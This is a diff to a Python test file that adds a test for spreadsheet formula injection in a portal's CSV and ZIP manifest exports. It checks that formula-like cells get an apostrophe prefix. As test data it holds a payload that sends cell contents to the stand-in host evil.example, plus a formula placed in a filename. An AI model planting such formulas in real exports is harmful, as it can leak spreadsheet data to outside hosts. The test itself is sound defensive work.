@@ -21,7 +21,7 @@ import sqlalchemy as sa
 
 from portal import workflow
 from portal.enums import FileRole, Language, Role, StatementStatus
-from portal.exports import COLUMNS, MANIFEST_COLUMNS
+from portal.exports import COLUMNS, MANIFEST_COLUMNS, MANIFEST_NAME
 from portal.extensions import db
 from portal.models import Statement, StatementFile, StoredFile, User, utcnow
 from portal.storage import get_store
@@ -205,6 +205,30 @@ def test_session_without_published_statements_gives_a_header_and_an_empty_manife
     with zipfile.ZipFile(io.BytesIO(body)) as archive:
         assert archive.namelist() == ["manifest.csv"]
         assert _csv_rows(archive.read("manifest.csv")) == []
+
+
+def test_csv_cells_that_a_spreadsheet_would_read_as_formulas_begin_with_an_apostrophe(app, client):
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with app.app_context():
+        people = factories.make_people()
+        factories.make_statement(
+            people["submitter"], title=title, filename="@SUM(1+1).pdf", status=S.APPROVED, moderator=people["moderator"]
+        )
+        factories.make_statement(people["submitter"], title="Plain - with a dash inside", status=S.APPROVED, moderator=people["moderator"])
+        db.session.commit()
+
+    rows = _csv_rows(client.get(CSV_URL).get_data())
+    with zipfile.ZipFile(io.BytesIO(client.get(ZIP_URL).get_data())) as archive:
+        manifest = _csv_rows(archive.read(MANIFEST_NAME))
+
+    for listing in (rows, manifest):
+        by_title = {r["title"]: r for r in listing}
+        assert set(by_title) == {"'" + title, "Plain - with a dash inside"}
+        assert by_title["'" + title]["file_name"] == "'@SUM(1+1).pdf"
+        assert by_title["Plain - with a dash inside"]["file_name"] == "statement.pdf"
+    # The API keeps the text as submitted.
+    api = client.get("/api/v1/statements").get_json()
+    assert title in {s["title"] for s in api["data"]}
 
 
 @pytest.mark.parametrize("url", ["/sessions/no-such-session/statements.csv", "/sessions/no-such-session/documents.zip"])
